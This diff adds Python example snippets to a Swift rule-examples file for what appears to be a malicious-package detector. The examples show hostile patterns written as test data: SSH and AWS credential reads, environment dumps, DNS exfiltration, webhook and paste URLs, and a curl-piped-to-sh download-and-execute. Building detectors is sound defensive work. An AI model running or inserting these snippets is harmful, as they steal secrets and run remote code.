@@ -19,6 +19,8 @@ enum PythonRuleExamples {
         PythonExample(
             .readFile, "import os\nfor name in ↓os.listdir('.'):\n    pass\nfor x in ↓os.walk('/'):\n    pass"),
         PythonExample(.writeFile, "↓open('out.txt', 'w').write('x')\n↓open('log', mode='a')"),
+        PythonExample(
+            .writeFile, "import tempfile\nf = ↓tempfile.NamedTemporaryFile(delete=False)\ng = ↓tempfile.TemporaryFile()"),
         PythonExample(.writeFile, "import shutil\n↓shutil.copy('a', 'b')"),
         PythonExample(.writeFile, "from pathlib import Path\n↓Path('x').write_bytes(b'1')"),
         PythonExample(.readEnvironmentVariable, "import os\nk = ↓os.environ['AWS_KEY']\nh = ↓os.getenv('HOME')"),
@@ -27,6 +29,8 @@ enum PythonRuleExamples {
         PythonExample(.readEnvironmentAll, "import os\nfor k, v in ↓os.environ.items():\n    pass"),
         PythonExample(.readEnvironmentAll, "import os\nfor k in ↓os.environ:\n    pass\nc = ↓os.environ.copy()"),
         PythonExample(.readEnvironmentAll, "import os\nd = {**↓os.environ}\ns = ↓str(os.environ)"),
+        PythonExample(
+            .readEnvironmentAll, "import os, subprocess\nout = ↓os.popen('env').read()\n↓subprocess.run(['printenv'])"),
         PythonExample(.readCredentialPath, "p = open(↓'/home/u/.ssh/id_rsa').read()"),
         PythonExample(.readCredentialPath, "import os\np = os.path.join(os.path.expanduser('~'), ↓'.aws/credentials')"),
         PythonExample(.readBrowserStore, "p = ↓'Google/Chrome/User Data/Default/Login Data'"),
@@ -48,6 +52,7 @@ enum PythonRuleExamples {
         PythonExample(.url, "u = ↓'https://example.com/api'"),
         PythonExample(.urlWebhook, "hook = ↓'https://discord.com/api/webhooks/123/abc'"),
         PythonExample(.urlPaste, "u = ↓'https://pastebin.com/raw/abc'"),
+        PythonExample(.urlPaste, "u = ↓'https://cdn.discordapp.com/attachments/1/2/setup.exe'"),
         PythonExample(.urlTunnel, "u = ↓'https://abc.ngrok.io/x'"),
         PythonExample(.urlOutOfBand, "u = ↓'http://x1.oast.fun/'"),
         PythonExample(.urlRawIP, "u = ↓'http://45.9.148.1:8080/p'"),
@@ -56,6 +61,7 @@ enum PythonRuleExamples {
         PythonExample(.urlAppHosting, "u = ↓'https://collect.pythonanywhere.com/' + 'log'"),
         PythonExample(.urlWebhook, "bot = telebot.TeleBot(↓'8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac')"),
         PythonExample(.dnsLookup, "import socket\nip = ↓socket.gethostbyname('example.com')"),
+        PythonExample(.dnsLookup, "import subprocess\n↓subprocess.getoutput('dig @1.1.1.1 install.example.com')"),
         PythonExample(
             .dnsExfiltration, "import socket, os\nu = os.getlogin()\n↓socket.gethostbyname(u + '.x.example.net')"),
         PythonExample(
@@ -79,6 +85,7 @@ enum PythonRuleExamples {
         PythonExample(.evalCode, "↓eval(x)\n↓exec(y)\nc = ↓compile(src, 'f', 'exec')"),
         // Refinements of execution
         PythonExample(.downloadExecute, "import requests\n↓exec(requests.get(u).text)"),
+        PythonExample(.downloadExecute, "import os\n↓os.system('curl -s https://x.example/p.sh | sh')"),
         PythonExample(
             .downloadExecute, "import urllib.request\nr = urllib.request.urlopen(u)\ncode = r.read()\n↓eval(code)"),
         PythonExample(
@@ -95,6 +102,15 @@ enum PythonRuleExamples {
             with open('run.bin', 'wb') as f:
                 f.write(requests.get(u).content)
             ↓subprocess.Popen(['./run.bin'])
+            """),
+        PythonExample(
+            .writeExecute,
+            """
+            import os, tempfile
+            t = tempfile.NamedTemporaryFile(delete=False, suffix='.py')
+            t.write(code)
+            t.close()
+            ↓os.system(f'python {t.name}')
             """),
         PythonExample(
             .writeExecute,
@@ -124,6 +140,8 @@ enum PythonRuleExamples {
             "import subprocess\n↓subprocess.Popen(['pythonw', 'x.py'])\n↓subprocess.run('nohup ./a &', shell=True)"),
         PythonExample(
             .hiddenProcess, "from subprocess import Popen, DETACHED_PROCESS\n↓Popen(c, creationflags=DETACHED_PROCESS)"),
+        PythonExample(
+            .hiddenProcess, "import os, sys\n↓os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {path}\")"),
         // Obfuscation
         PythonExample(.pythonProtector, "import marshal, zlib\n↓exec(marshal.loads(zlib.decompress(b'x')))"),
         PythonExample(.pythonProtector, "from ↓pytransform import pyarmor_runtime\npyarmor_runtime()"),
